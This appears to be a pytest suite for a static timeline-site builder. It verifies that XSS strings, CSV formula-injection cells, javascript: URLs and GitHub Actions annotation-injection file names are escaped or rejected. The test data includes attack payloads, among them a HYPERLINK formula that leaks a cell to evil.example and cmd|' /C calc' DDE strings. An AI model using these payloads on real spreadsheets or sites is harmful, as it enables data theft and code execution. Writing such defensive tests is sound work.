"""Hostile input stays inert: in TimelineJS text, CSV cells, the Atom feed, GitHub annotations, and the
addresses and branch a site is built for."""

from __future__ import annotations

import csv
import dataclasses
import json
import shutil
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from conftest import FIXTURES, run

from build import read_site
from timeline import data, render
from timeline.model import visible

HOSTILE = FIXTURES / "hostile"
EVENTS = "content/events"
PLACES = {"html-in-era-name.yaml": "content/eras.yaml", "html-in-site-title.yaml": "content/site.yaml"}  # else: an event
ATOM = {"atom": "http://www.w3.org/2005/Atom"}


def place(root: Path, name: str) -> None:
    """Copy one hostile fixture into the project: an event, or in place of a content list."""
    shutil.copyfile(HOSTILE / name, root / PLACES.get(name, f"{EVENTS}/{name}"))


def built(project: Path, capsys: pytest.CaptureFixture[str], name: str) -> Path:
    place(project, name)
    code, _, err = run(project, "build", "--no-search", capsys=capsys)
    assert code == 0, err
    return project / "_site"


# TimelineJS reads headlines, groups and text as HTML: what the content says must be shown, not run.
# (fixture, where in timeline.json, the escaped text expected there; its quote marks typeset, curly)
TIMELINE_CASES = [
    ("html-in-title.md", "headline", "&lt;img src=x onerror=alert(1)&gt; &amp; ‘Lavrov’ &lt;b&gt;talks&lt;/b&gt;"),
    ("html-in-era-name.yaml", "era", "&lt;script&gt;alert(1)&lt;/script&gt; A new century"),
    ("html-in-era-name.yaml", "group", "&lt;script&gt;alert(1)&lt;/script&gt; A new century"),
    ("html-in-site-title.yaml", "title", "&lt;b&gt;Fixture&lt;/b&gt; &amp; ‘Chronology’"),
    ("html-in-site-title.yaml", "title", "&lt;img src=x onerror=alert(1)&gt; A small site."),
]


def timeline_texts(document: dict[str, Any]) -> dict[str, list[str]]:
    """The texts of timeline.json besides the event summaries (whose 'Sources' link is HTML by design)."""
    return {
        "title": [document["title"]["text"]["headline"], document["title"]["text"]["text"]],
        "headline": [slide["text"]["headline"] for slide in document["events"]],
        "group": [slide["group"] for slide in document["events"]],
        "era": [era["text"]["headline"] for era in document["eras"]],
    }


@pytest.mark.parametrize(("name", "where", "expected"), TIMELINE_CASES)
def test_timelinejs_text_is_escaped(
    project: Path, capsys: pytest.CaptureFixture[str], name: str, where: str, expected: str
) -> None:
    texts = timeline_texts(json.loads((built(project, capsys, name) / "timeline.json").read_text(encoding="utf-8")))
    assert expected in texts[where]
    assert not [text for kind in texts.values() for text in kind if "<" in text or ">" in text]


# A spreadsheet runs a cell that starts with = + - @ as a formula: such a cell gets a leading '.
# (fixture, column, the cell expected for its event, its quote marks typeset)
CSV_CASES = [
    ("formula-in-summary.md", "summary", "'=HYPERLINK(“https://evil.example/?leak=”&A1, “Sources”)"),
    ("plus-in-title.md", "title", "'+cmd|’ /C calc’!A0"),
    ("minus-in-title.md", "title", "'-2+3+cmd|’ /C calc’!A0"),
    ("at-in-summary.md", "summary", "'@SUM(1+9)*cmd|’ /C calc’!A0"),
    ("formula-characters-inside.md", "title", "Talks: 2 + 2 = 4 @ Islamabad - notes"),  # not at the start: untouched
    ("formula-characters-inside.md", "summary", "Prices -5% and +3%, agreed @ Islamabad = progress."),
]  # fmt: skip


@pytest.mark.parametrize(("name", "column", "expected"), CSV_CASES)
def test_csv_cells_never_start_a_formula(
    project: Path, capsys: pytest.CaptureFixture[str], name: str, column: str, expected: str
) -> None:
    with (built(project, capsys, name) / "events.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["id"]: row for row in csv.DictReader(file)}
    row = rows[Path(name).stem]
    assert row[column] == expected
    assert (row["date"], row["era"]) == ("2021-04-08", "new-century")  # the other cells as they were
    assert not [cell for row in rows.values() for cell in row.values() if cell.startswith(data.FORMULA_STARTS)]


# What content cannot hold (the validator strips text), but a cell might: (value, the cell written)
CELL_CASES = [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("1948-05-01", "1948-05-01"),
    ("", ""),
    ("a = b", "a = b"),
    ("'quoted'", "'quoted'"),
]


@pytest.mark.parametrize(("value", "expected"), CELL_CASES)
def test_csv_cell(value: str, expected: str) -> None:
    assert data._cell(value) == expected


# Text a feed reader must show as text. (Control characters, which XML 1.0 forbids, are refused by
# the validator: see the control-character fixtures of test_bad_input.py; the feed's own defence
# is tested below without it.) (fixture, the entry's title and summary as a feed reader reads them)
FEED_CASES = [
    ("html-in-title.md", "8 April 2021: <img src=x onerror=alert(1)> & ‘Lavrov’ <b>talks</b>", "Talks in Islamabad."),
]


def feed_entry(feed: str, slug: str) -> tuple[str | None, str | None]:
    """The title and summary of an event's entry in an Atom feed, parsed as XML."""
    for entry in ElementTree.fromstring(feed).iterfind("atom:entry", ATOM):
        if (entry.findtext("atom:id", namespaces=ATOM) or "").endswith(f"/events/{slug}/"):
            return entry.findtext("atom:title", namespaces=ATOM), entry.findtext("atom:summary", namespaces=ATOM)
    raise AssertionError(f"no entry for {slug}")


@pytest.mark.parametrize(("name", "title", "summary"), FEED_CASES)
def test_feed_is_well_formed(project: Path, capsys: pytest.CaptureFixture[str], name: str, title: str, summary: str) -> None:
    feed = (built(project, capsys, name) / "feed.xml").read_text(encoding="utf-8")
    assert feed_entry(feed, Path(name).stem) == (title, summary)


FORBIDDEN = "".join(map(chr, [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xD800, 0xFFFE, 0xFFFF]))


def test_feed_is_well_formed_without_the_validator(project: Path) -> None:
    """Should the validator come to refuse control characters, the feed still must not rely on it."""
    site, problems = read_site(project)
    assert site is not None, problems
    last = dataclasses.replace(site.events[-1], title=f"T{FORBIDDEN}alks", summary=f"S{FORBIDDEN}aid.")
    site = dataclasses.replace(site, events=(*site.events[:-1], last))
    feed = next(page for page in render.plan(site) if page.out == "feed.xml")
    text = render.Renderer(project, site).page(feed)
    assert feed_entry(text, last.slug) == (f"{last.date_label}: Talks", "Said.")


def test_every_hostile_fixture_has_a_case() -> None:
    used = {row[0] for row in TIMELINE_CASES + CSV_CASES + FEED_CASES}
    assert sorted(path.name for path in HOSTILE.iterdir()) == sorted(used)


# Addresses and the branch from the command line are checked as in content/site.yaml.
# (options of `build`, the exact report)
OPTION_CASES = [
    (["--base-url", "javascript:alert(1)//"], ["--base-url: 'javascript:alert(1)//' is not an https:// address"]),
    (["--base-url", 'https://example.org/"><script>alert(1)</script>'], ["--base-url: 'https://example.org/\"><script>alert(1)</script>' is not an https:// address: it contains '\"'"]),
    (["--base-url", "https://example.org/>"], ["--base-url: 'https://example.org/>' is not an https:// address: it contains '>'"]),
    (["--base-url", "https://example.org/a b"], ["--base-url: 'https://example.org/a b' is not an https:// address: it contains ' '"]),
    (["--base-url", "https://example.org/\x1b[31m"], ["--base-url: 'https://example.org/\\x1b[31m' is not an https:// address: it contains '\\x1b'"]),
    (["--base-url", "http://example.org/"], ["--base-url: 'http://example.org/' is not an https:// address (http:// only for 127.0.0.1, localhost or [::1])"]),
    (["--base-url", "https:///chronology/"], ["--base-url: 'https:///chronology/' is not an https:// address: it needs a host name, like example.org"]),
    (["--base-url", "https://x@example.org/"], ["--base-url: 'https://x@example.org/' is not an https:// address: it cannot have a user name"]),
    (["--base-url", "https://example.org/?a=1"], ["--base-url: 'https://example.org/?a=1' is not an https:// address: it cannot have a ?query or #fragment"]),
    (["--repository", "http://127.0.0.1/repo"], ["--repository: 'http://127.0.0.1/repo' is not an https:// address"]),
    (["--repository", "javascript:alert(1)"], ["--repository: 'javascript:alert(1)' is not an https:// address"]),
    (["--branch", 'main"><script>'], ["--branch: 'main\"><script>' is not a git branch name: it contains '\"'"]),
    (["--branch", "main branch"], ["--branch: 'main branch' is not a git branch name: it contains ' '"]),
    (["--branch", "../main"], ["--branch: '../main' is not a git branch name (no '..', '//', '@{', and no '-', '.' or '/' at either end)"]),
    (
        ["--base-url", "javascript:x", "--repository", "http://github.com/u/r", "--branch", "a..b"],
        [
            "--base-url: 'javascript:x' is not an https:// address",
            "--branch: 'a..b' is not a git branch name (no '..', '//', '@{', and no '-', '.' or '/' at either end)",
            "--repository: 'http://github.com/u/r' is not an https:// address",
        ],
    ),
]  # fmt: skip


@pytest.mark.parametrize(("options", "expected"), OPTION_CASES, ids=[" ".join(options) for options, _ in OPTION_CASES])
def test_bad_option_is_reported_and_nothing_written(
    project: Path, capsys: pytest.CaptureFixture[str], options: list[str], expected: list[str]
) -> None:
    code, _, err = run(project, "build", *options, capsys=capsys)
    assert code == 1
    summary = f"{len(expected)} problem{'s' if len(expected) > 1 else ''} found; nothing was written."
    assert err.splitlines() == [*expected, summary]
    assert sorted(path.name for path in project.iterdir()) == ["content", "locales", "seeds", "static", "templates"]


# The same rules in content/site.yaml: (field, its value, the exact report)
SETTING_CASES = [
    ("base_url", "javascript:alert(1)//", "content/site.yaml:4: base_url: 'javascript:alert(1)//' is not an https:// address"),
    ("base_url", 'https://example.org/" onmouseover="alert(1)', "content/site.yaml:4: base_url: 'https://example.org/\" onmouseover=\"alert(1)' is not an https:// address: it contains '\"'"),
    ("base_url", "http://example.org/", "content/site.yaml:4: base_url: 'http://example.org/' is not an https:// address (http:// only for 127.0.0.1, localhost or [::1])"),
    ("repository", "http://github.com/u/r", "content/site.yaml:5: repository: 'http://github.com/u/r' is not an https:// address"),
    ("branch", "main<b>", "content/site.yaml:7: branch: 'main<b>' is not a git branch name: it contains '<'"),
]  # fmt: skip


def set_setting(project: Path, field: str, value: str) -> None:
    """Replace (or add) one line of content/site.yaml; the value in double quotes, JSON's and YAML's alike."""
    settings = project / "content" / "site.yaml"
    lines = [line for line in settings.read_text(encoding="utf-8").splitlines() if not line.startswith(f"{field}:")]
    line = f"{field}: {json.dumps(value)}"
    lines.insert(3 if field == "base_url" else 4 if field == "repository" else len(lines), line)
    settings.write_text("\n".join(lines) + "\n", encoding="utf-8")


@pytest.mark.parametrize(("field", "value", "expected"), SETTING_CASES)
def test_bad_setting_is_reported_and_nothing_written(
    project: Path, capsys: pytest.CaptureFixture[str], field: str, value: str, expected: str
) -> None:
    set_setting(project, field, value)
    code, _, err = run(project, "build", capsys=capsys)
    assert code == 1
    assert err.splitlines() == [expected, "1 problem found; nothing was written."]
    assert not (project / "_site").exists()


# What must still build: the preview's and the pull-request workflow's http addresses, and ordinary ones.
GOOD_OPTIONS = [
    ["--base-url", "http://127.0.0.1:8000/"],
    ["--base-url", "http://localhost:8000/"],
    ["--base-url", "http://[::1]:8000/"],
    ["--base-url", "http://0.0.0.0:8000/"],  # `build.py serve --host 0.0.0.0`
    ["--base-url", "https://User.github.io/repo"],
    ["--base-url", "https://chronology.example.org:8443/a/b/"],
    ["--repository", "https://github.com/u/r", "--branch", "release/2023.1-final"],
]


@pytest.mark.parametrize("options", GOOD_OPTIONS, ids=" ".join)
def test_good_options_build(project: Path, capsys: pytest.CaptureFixture[str], options: list[str]) -> None:
    code, _, err = run(project, "build", "--no-search", *options, capsys=capsys)
    assert code == 0, err


# A file name is a property of the annotation: it must not end it, add another, or fake a line.
HOSTILE_FILE_NAMES = [
    "x::warning::INJECTED.md",
    "a,line=99.md",
    "a%0A::warning file=x.md,line=1::INJECTED.md",
    "a\n::warning::INJECTED.md",
    "a\r::warning::INJECTED.md",
    "100%25 sure:7.md",
]


def workflow_command(line: str) -> tuple[str, dict[str, str], str]:
    """A line as the GitHub Actions runner reads it: `::command key=value,key=value::data`, unescaped."""
    assert line.startswith("::")
    head, _, message = line[2:].partition("::")
    command, _, properties = head.partition(" ")
    values = dict(pair.split("=", 1) for pair in properties.split(","))
    return command, {key: unescape(value, property_value=True) for key, value in values.items()}, unescape(message)


def unescape(text: str, property_value: bool = False) -> str:
    """The runner's unescaping, in its order (ActionCommand.cs)."""
    pairs = [("%0D", "\r"), ("%0A", "\n")] + ([("%3A", ":"), ("%2C", ",")] if property_value else []) + [("%25", "%")]
    for escaped, character in pairs:
        text = text.replace(escaped, character)
    return text


@pytest.mark.parametrize("name", HOSTILE_FILE_NAMES)
def test_github_annotation_of_a_hostile_file_name(project: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    shutil.copyfile(HOSTILE / "html-in-title.md", project / EVENTS / name)
    code, out, _ = run(project, "--github", "check", capsys=capsys)
    assert code == 1
    [line] = out.splitlines()
    command, properties, message = workflow_command(line)
    shown = visible(name)  # a control character (a line break) is written as an escape, as in the terminal
    assert (command, properties) == ("error", {"file": f"{EVENTS}/{shown}", "line": "1"})
    assert message.startswith(f"file name '{shown}' is not a slug")
